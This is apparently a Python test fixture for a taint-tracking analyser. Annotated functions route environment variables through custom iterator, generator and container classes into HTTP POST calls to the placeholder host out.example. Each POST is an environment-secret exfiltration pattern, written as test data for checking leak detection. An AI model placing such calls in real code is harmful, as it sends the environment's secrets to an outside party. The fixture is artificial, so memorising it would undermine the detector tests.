"""Objects of the tree hand out their elements by their own methods."""
import os
import requests

U = "https://out.example/"


class Ahead:
    def __init__(self, inner):
        self._inner = inner

    def __iter__(self):
        return self

    def __next__(self):
        return next(self._inner)


class Lines:
    def __init__(self, text):
        self.text = text

    def __iter__(self):
        for line in self.text.splitlines():
            yield line


class Table:
    def __init__(self, rows):
        self.rows = rows

    def __getitem__(self, key):
        return self.rows[key]


class Counter:
    def __init__(self, limit):
        self.limit = limit

    def __next__(self):
        return 1


def iterator():
    for item in Ahead(iter([os.getenv("A")])):  #~ source(ENVIRONMENT) i1
        requests.post(U, data=item)  #~ sink(egress.http) i1, finding(traced) i1


def generator():
    for line in Lines(os.getenv("B")):  #~ source(ENVIRONMENT) i2
        requests.post(U, data=line)  #~ sink(egress.http) i2, finding(traced) i2


def container():
    table = Table({"k": os.getenv("C")})  #~ source(ENVIRONMENT) i3
    requests.post(U, data=table["k"])  #~ sink(egress.http) i3, finding(traced) i3


def counts_only():
    for number in Counter(os.getenv("D")):
        requests.post(U, data=number)  #~ ok
